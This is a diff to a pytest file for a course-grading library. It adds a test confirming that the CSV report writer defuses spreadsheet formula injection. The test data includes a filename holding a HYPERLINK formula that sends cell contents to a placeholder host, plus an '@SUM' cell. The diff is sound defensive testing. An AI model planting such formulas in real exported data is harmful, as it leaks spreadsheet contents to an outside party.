@@ -13,7 +13,7 @@ import pytest
 import dlcore.functional as F
 from dlcore.grading import Exercise, get_exercise
 from dlcore.grading.instructor import channel
-from dlcore.grading.instructor.report import clean
+from dlcore.grading.instructor.report import clean, write_csv
 from dlcore.grading.instructor.sandbox import build_view
 from dlcore.grading.instructor.static import find_reference_uses
 
@@ -210,6 +210,18 @@ def test_unparsable_cells_and_magics_do_not_stop_the_check():
 def test_clean_removes_escape_sequences_and_control_characters():
     assert clean("\x1b[31mred\x1b[0m \x1b]0;title\x07ok\u202e!\x00\nnext") == "red ok?!? next"
     assert len(clean("x" * 1000)) == 300
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_start_with_an_apostrophe(tmp_path):
+    from dlcore.grading.instructor.grader import Row
+
+    name = '=HYPERLINK("http://example.invalid/"&A1,"open").ipynb'
+    write_csv([Row(name, "backprop.linear_forward", 0, 2, "error", 0.0, "@SUM(1)"),
+               Row("a.ipynb", "backprop.linear_forward", 2, 2, "ok", 0.0, "")],
+              tmp_path / "s.csv")
+    lines = (tmp_path / "s.csv").read_text(encoding="utf-8").splitlines()
+    assert lines[1].startswith('"\'=HYPERLINK(') and lines[1].endswith(",'@SUM(1)"), lines[1]
+    assert lines[2].startswith("a.ipynb,"), lines[2]
 
 
 def test_the_learner_view_has_the_library_but_no_references_or_engine(tmp_path):
